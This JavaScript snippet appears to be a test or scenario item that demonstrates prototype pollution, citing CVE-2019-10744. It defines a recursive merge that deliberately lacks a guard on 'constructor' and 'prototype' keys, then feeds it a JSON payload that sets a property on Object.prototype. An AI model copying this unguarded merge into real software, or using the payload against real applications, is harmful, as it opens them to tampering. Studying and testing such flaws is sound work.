// aim: a prototype, by a key of JSON
// kind: tamper
// source: CVE-2019-10744 and kin (prototype pollution)
const merge = (to, from) => { for (const k of Reflect.ownKeys(from)) typeof from[k] === 'object' ? merge(to[k] ??= {}, from[k]) : (to[k] = from[k]) };
if (params.turn === 1) { merge({}, JSON.parse('{"constructor": {"prototype": {"left": "BROKEN"}}}')); return null }
return ({}).left;
